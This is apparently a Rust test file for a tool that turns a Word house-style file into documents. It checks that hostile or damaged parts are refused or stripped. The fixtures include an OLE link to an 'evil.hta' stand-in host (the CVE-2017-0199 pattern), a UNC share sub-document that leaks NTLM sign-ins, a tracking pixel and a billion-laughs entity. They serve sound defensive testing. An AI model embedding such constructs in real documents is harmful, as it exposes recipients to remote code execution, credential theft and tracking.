//! A hostile or damaged house file: nothing from outside the file rides into
//! every document, nothing the author meant to hide does either, and a part
//! that would break the documents is refused with the house file's name.

use std::path::{Path, PathBuf};

use super::{House, R, W, generate_with, house_parts, write_zip};
use crate::support::*;

const IMAGE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";
const HYPERLINK: &str =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink";
const OLE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject";
const SUB_DOCUMENT: &str =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument";
const THEME: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/theme";

/// The default house file with `replaced` parts put in place of (or beside) its own.
fn house_with(dir: &Path, replaced: &[(&'static str, Vec<u8>)]) -> PathBuf {
    let mut parts = house_parts(&House::default());
    for (name, bytes) in replaced {
        parts.retain(|(n, _)| n != name);
        parts.push((name, bytes.clone()));
    }
    let path = dir.join("husstil.docx");
    write_zip(&path, &parts);
    path
}

/// A header part with `body` (paragraphs) in it.
fn header(body: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W}" xmlns:r="{R}">{body}</w:hdr>"#
    )
    .into_bytes()
}

/// A header's relationships part with `relationships` in it.
fn header_rels(relationships: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relationships}</Relationships>"#
    )
    .into_bytes()
}

/// A house file whose header refers to `rId9` from `body`, that relationship being `relationship`.
fn house_with_header(dir: &Path, body: &str, relationship: &str) -> PathBuf {
    house_with(
        dir,
        &[
            ("word/header1.xml", header(body)),
            ("word/_rels/header1.xml.rels", header_rels(relationship)),
        ],
    )
}

/// Both outputs of a run, for asserting on whatever a command says.
fn said(output: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        stderr(output)
    )
}

#[test]
fn a_link_outside_the_file_other_than_a_web_link_is_refused_and_check_reports_it() {
    let cases = [
        // A tracking pixel: a picture linked, not embedded.
        (
            r#"<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId9"/></w:drawing></w:r></w:p>"#,
            format!(
                r#"<Relationship Id="rId9" Type="{IMAGE}" Target="http://sporing.example/p.png" TargetMode="External"/>"#
            ),
            "http://sporing.example/p.png",
        ),
        // The CVE-2017-0199 pattern: an OLE object linked to an HTA.
        (
            r#"<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId9"/></w:object></w:r></w:p>"#,
            format!(
                r#"<Relationship Id="rId9" Type="{OLE}" Target="http://ondt.example/evil.hta" TargetMode="External"/>"#
            ),
            "evil.hta",
        ),
        // A sub-document on a share: an NTLM sign-in on Windows.
        (
            r#"<w:p><w:subDoc r:id="rId9"/></w:p>"#,
            format!(
                r#"<Relationship Id="rId9" Type="{SUB_DOCUMENT}" Target="file://///vaert/deling/a.docx" TargetMode="External"/>"#
            ),
            "vaert/deling",
        ),
        // Even a link to click goes nowhere but the web or mail.
        (
            r#"<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink></w:p>"#,
            format!(
                r#"<Relationship Id="rId9" Type="{HYPERLINK}" Target="file://vaert/deling" TargetMode="External"/>"#
            ),
            "file://vaert/deling",
        ),
    ];
    for (body, relationship, target) in cases {
        let tmp = tempfile::tempdir().expect("tempdir");
        let house = house_with_header(tmp.path(), body, &relationship);
        let out = tmp.path().join("out");
        let output = generate_with(&house, &out).fails_with(1);
        let err = stderr(&output);
        assert!(
            err.contains("husstil.docx")
                && err.contains(target)
                && err.contains("outside the file"),
            "{err}"
        );
        assert!(err.contains("Insert → Pictures"), "says what to do: {err}");
        assert!(!out.exists(), "nothing written");

        let config = super::config_with_house(tmp.path(), "husstil.docx");
        let output = mus().arg("check").arg(&config).fails_with(1);
        assert!(said(&output).contains(target), "{}", said(&output));
    }
}

#[test]
fn a_web_link_in_the_header_is_kept() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let house = house_with_header(
        tmp.path(),
        r#"<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink></w:p>"#,
        &format!(
            r#"<Relationship Id="rId9" Type="{HYPERLINK}" Target="https://intra.example/mus" TargetMode="External"/>"#
        ),
    );
    let out = tmp.path().join("out");
    generate_with(&house, &out).succeeds();
    let docx = out.join("samtaleskema.docx");
    let rels: String = part_names(&docx)
        .iter()
        .filter(|n| n.starts_with("word/_rels/header"))
        .map(|n| part(&docx, n))
        .collect();
    assert!(rels.contains("https://intra.example/mus"), "{rels}");
}

#[test]
fn a_picture_that_is_the_file_s_properties_or_macros_is_refused() {
    for target in ["../docProps/core.xml", "vbaProject.bin"] {
        let tmp = tempfile::tempdir().expect("tempdir");
        let name: &'static str = if target.ends_with(".xml") {
            "docProps/core.xml"
        } else {
            "word/vbaProject.bin"
        };
        let mut parts = vec![
            (
                "word/_rels/header1.xml.rels",
                header_rels(&format!(
                    r#"<Relationship Id="rId1" Type="{IMAGE}" Target="{target}"/>"#
                )),
            ),
            (
                name,
                b"<cp:coreProperties>Eva Hansen</cp:coreProperties>".to_vec(),
            ),
        ];
        if name.ends_with(".bin") {
            parts.push((
                "[Content_Types].xml",
                br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#.to_vec(),
            ));
        }
        let house = house_with(tmp.path(), &parts);
        let output = generate_with(&house, tmp.path().join("out")).fails_with(1);
        let err = stderr(&output);
        assert!(
            err.contains("husstil.docx") && err.contains(name) && err.contains("not one"),
            "{target}: {err}"
        );
    }
}

#[test]
fn tracked_changes_hidden_text_comments_and_custom_xml_stay_out_of_every_document() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let body = r#"<w:p><w:ins w:id="1" w:author="Eva Hansen" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Eksempelstyrelsen</w:t></w:r></w:ins><w:del w:id="2" w:author="Eva Hansen"><w:r><w:delText>Fortroligt: lønramme 37</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr><w:t>Skjult note om Bo</w:t></w:r><w:commentRangeStart w:id="3"/><w:r><w:t> HR</w:t></w:r><w:commentRangeEnd w:id="3"/><w:r><w:commentReference w:id="3"/></w:r><w:customXml w:uri="urn:x" w:element="kunde"><w:customXmlPr><w:attr w:name="id" w:val="Kundenummer 4711"/></w:customXmlPr><w:r><w:t> Afdeling</w:t></w:r></w:customXml></w:p><w:sdt><w:sdtPr><w:alias w:val="Forfatter: Eva Hansen"/><w:tag w:val="eva.hansen"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>Kontrol</w:t></w:r></w:p></w:sdtContent></w:sdt>"#;
    let styles = super::styles(true).replace(
        "<w:rPr><w:b/></w:rPr>",
        r#"<w:rPr><w:b/><w:rPrChange w:id="9" w:author="Eva Hansen"><w:rPr/></w:rPrChange></w:rPr>"#,
    );
    assert!(styles.contains("rPrChange"));
    let house = house_with(
        tmp.path(),
        &[
            ("word/header1.xml", header(body)),
            ("word/styles.xml", styles.into_bytes()),
        ],
    );
    let out = tmp.path().join("out");
    let output = generate_with(&house, &out).succeeds();
    let err = stderr(&output);
    assert!(
        err.contains("note:")
            && err.contains("husstil.docx")
            && err.contains(
                "tracked changes, hidden text, comment marks, custom XML, content control tags"
            ),
        "says what was taken out: {err}"
    );
    for docx in files_below(&out)
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "docx"))
    {
        let parts: String = part_names(&docx)
            .iter()
            .filter(|n| n.starts_with("word/header") || *n == "word/styles.xml")
            .map(|n| part(&docx, n))
            .collect();
        for hidden in [
            "Eva Hansen",
            "Fortroligt",
            "Skjult note",
            "Kundenummer",
            "eva.hansen",
            "w:author",
            "commentReference",
            "customXml",
        ] {
            assert!(
                !parts.contains(hidden),
                "{}: {hidden} in {parts}",
                docx.display()
            );
        }
        for shown in ["Eksempelstyrelsen", " HR", " Afdeling", "Kontrol"] {
            assert!(parts.contains(shown), "{}: {shown} kept", docx.display());
        }
    }
    // `check --strict` says so too, as a warning SU can accept.
    let config = super::config_with_house(tmp.path(), "husstil.docx");
    let output = mus()
        .args(["check", "--strict", "--format", "json"])
        .arg(&config)
        .fails_with(1);
    let json = String::from_utf8_lossy(&output.stdout);
    assert!(
        json.contains("house-style-cleaned") && json.contains("tracked changes"),
        "{json}"
    );
}

#[test]
fn a_damaged_theme_is_refused() {
    let rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="header1.xml"/><Relationship Id="rId3" Type="{THEME}" Target="theme/theme1.xml"/></Relationships>"#
    );
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "lol"><!ENTITY l2 "&l;&l;&l;&l;">]><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">&l2;</a:theme>"#;
    for (theme, says) in [
        ("garbage \u{1} <<<", "not well-formed XML"),
        (laughs, "not well-formed XML"),
        (
            r#"<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#,
            "not a theme",
        ),
    ] {
        let tmp = tempfile::tempdir().expect("tempdir");
        let house = house_with(
            tmp.path(),
            &[
                ("word/_rels/document.xml.rels", rels.clone().into_bytes()),
                ("word/theme/theme1.xml", theme.as_bytes().to_vec()),
            ],
        );
        let output = generate_with(&house, tmp.path().join("out")).fails_with(1);
        let err = stderr(&output);
        assert!(
            err.contains("husstil.docx")
                && err.contains("word/theme/theme1.xml")
                && err.contains(says),
            "{err}"
        );
    }
    // A real theme is taken.
    let tmp = tempfile::tempdir().expect("tempdir");
    let theme = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Hus"><a:themeElements/></a:theme>"#;
    let house = house_with(
        tmp.path(),
        &[
            ("word/_rels/document.xml.rels", rels.into_bytes()),
            ("word/theme/theme1.xml", theme.as_bytes().to_vec()),
        ],
    );
    let out = tmp.path().join("out");
    generate_with(&house, &out).succeeds();
    assert!(
        part(&out.join("samtaleskema.docx"), "word/theme/theme1.xml").contains(r#"name="Hus""#)
    );

    // A theme with a picture fill would point to a part no document has:
    // mus's own theme is used, and a note says so.
    let tmp = tempfile::tempdir().expect("tempdir");
    let filled = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}" name="Billede"><a:themeElements><a:fmtScheme><a:bgFillStyleLst><a:blipFill><a:blip r:embed="rId1"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#
    );
    let rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="header1.xml"/><Relationship Id="rId3" Type="{THEME}" Target="theme/theme1.xml"/></Relationships>"#
    );
    let house = house_with(
        tmp.path(),
        &[
            ("word/_rels/document.xml.rels", rels.into_bytes()),
            ("word/theme/theme1.xml", filled.into_bytes()),
        ],
    );
    let out = tmp.path().join("out");
    let output = generate_with(&house, &out).succeeds();
    let theme = part(&out.join("samtaleskema.docx"), "word/theme/theme1.xml");
    assert!(
        !theme.contains("Billede") && !theme.contains("r:embed"),
        "{theme}"
    );
    assert!(
        stderr(&output).contains("picture fill"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_header_that_declares_another_encoding_than_utf8_is_refused() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let text = String::from_utf8(header("<w:p/>"))
        .expect("text")
        .replace(r#"encoding="UTF-8""#, r#"encoding="UTF-16""#);
    let house = house_with(tmp.path(), &[("word/header1.xml", text.into_bytes())]);
    let output = generate_with(&house, tmp.path().join("out")).fails_with(1);
    let err = stderr(&output);
    assert!(
        err.contains("husstil.docx") && err.contains("word/header1.xml") && err.contains("UTF-16"),
        "{err}"
    );
}

#[test]
fn page_values_outside_word_s_range_are_refused_and_a_short_page_says_so() {
    let margins = |top: &str, left: &str| {
        format!(
            r#"<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="{top}" w:right="1134" w:bottom="1134" w:left="{left}" w:header="709" w:footer="709" w:gutter="0"/>"#
        )
    };
    let document = |page: &str| {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p/><w:sectPr><w:headerReference w:type="default" r:id="rId2"/>{page}</w:sectPr></w:body></w:document>"#
        )
        .into_bytes()
    };
    for (page, says) in [
        (
            margins("1134", "2147483647"),
            "outside Word's range of 0 to 31680",
        ),
        (
            margins("1134", "-2147483648"),
            "outside Word's range of 0 to 31680",
        ),
        (
            margins("2147483647", "1134"),
            "outside Word's range of -31680 to 31680",
        ),
        (
            r#"<w:pgSz w:w="99999999999" w:h="16838"/>"#.to_string(),
            "outside Word's range of 144 to 31680",
        ),
        // Word's "do not move the text" top, far down the page: too short, not too narrow.
        (margins("-15000", "1134"), "cm down for the text"),
    ] {
        let tmp = tempfile::tempdir().expect("tempdir");
        let house = house_with(tmp.path(), &[("word/document.xml", document(&page))]);
        let output = generate_with(&house, tmp.path().join("out")).fails_with(1);
        let err = stderr(&output);
        assert!(
            err.contains("husstil.docx") && err.contains(says),
            "{page}: {err}"
        );
    }
}

/// The `basedOn` of each style in a styles part.
fn based_on(styles: &str) -> Vec<(String, String)> {
    let doc = roxmltree::Document::parse(styles).expect("styles");
    doc.descendants()
        .filter(|n| n.has_tag_name((W, "style")))
        .filter_map(|s| {
            let id = s.attribute((W, "styleId"))?.to_string();
            let base = s
                .children()
                .find(|c| c.has_tag_name((W, "basedOn")))?
                .attribute((W, "val"))?
                .to_string();
            Some((id, base))
        })
        .collect()
}

#[test]
fn a_style_based_on_itself_round_a_loop_loses_the_link_that_closes_it() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let styles = super::styles(true).replace(
        r#"<w:name w:val="Normal"/>"#,
        r#"<w:name w:val="Normal"/><w:basedOn w:val="Overskrift2"/>"#,
    );
    let house = house_with(tmp.path(), &[("word/styles.xml", styles.into_bytes())]);
    let out = tmp.path().join("out");
    let output = generate_with(&house, &out).succeeds();
    let err = stderr(&output);
    assert!(
        err.contains("note:") && err.contains("based on itself") && err.contains("Overskrift1"),
        "{err}"
    );
    let links = based_on(&part(&out.join("samtaleskema.docx"), "word/styles.xml"));
    for (start, _) in &links {
        let mut at = start.clone();
        for _ in 0..=links.len() {
            match links.iter().find(|(id, _)| *id == at) {
                Some((_, base)) => at = base.clone(),
                None => break,
            }
        }
        assert!(
            links.iter().all(|(id, _)| *id != at),
            "{start} is based on itself round a loop: {links:?}"
        );
    }
    // Normal keeps its base, the link that closes the loop goes: Heading 1 → Normal.
    assert!(
        links.contains(&("Normal".into(), "Heading2".into())),
        "{links:?}"
    );
    assert!(!links.iter().any(|(id, _)| id == "Heading1"), "{links:?}");
}

/// Issue 24: an old-style (VML) logo keeps its picture: the relationship
/// its `v:imagedata` names is carried into every document's header.
#[test]
fn a_vml_logo_in_the_header_keeps_its_picture() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let body = r#"<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:60pt;height:20pt"><v:imagedata r:id="rId9" o:title="" xmlns:o="urn:schemas-microsoft-com:office:office"/></v:shape></w:pict></w:r></w:p>"#;
    let mut parts = vec![
        ("word/header1.xml", header(body)),
        (
            "word/_rels/header1.xml.rels",
            header_rels(&format!(
                r#"<Relationship Id="rId9" Type="{IMAGE}" Target="media/vml-logo.png"/>"#
            )),
        ),
        ("word/media/vml-logo.png", super::logo()),
    ];
    let mut all = house_parts(&House::default());
    all.retain(|(n, _)| !parts.iter().any(|(p, _)| p == n));
    all.append(&mut parts);
    let house = tmp.path().join("husstil.docx");
    write_zip(&house, &all);
    let out = tmp.path().join("out");
    generate_with(&house, &out).succeeds();
    let docx = out.join("vejledning-hr.docx");
    let names = part_names(&docx);
    let header = names
        .iter()
        .find(|n| n.starts_with("word/header") && n.ends_with(".xml"))
        .expect("a header");
    let xml = part(&docx, header);
    let at = xml.find("v:imagedata").expect("the VML picture");
    let id = xml[at..]
        .split("r:id=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("its relationship id");
    let file = header.rsplit('/').next().expect("file name");
    let rels = part(&docx, &format!("word/_rels/{file}.rels"));
    let relationship = rels
        .split("<Relationship ")
        .find(|r| r.contains(&format!("Id=\"{id}\"")))
        .unwrap_or_else(|| panic!("`{id}` is in {rels}"));
    let target = relationship
        .split("Target=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("target");
    let picture = format!("word/{}", target.trim_start_matches("../word/"));
    assert!(names.contains(&picture), "{picture} in {names:?}");
}
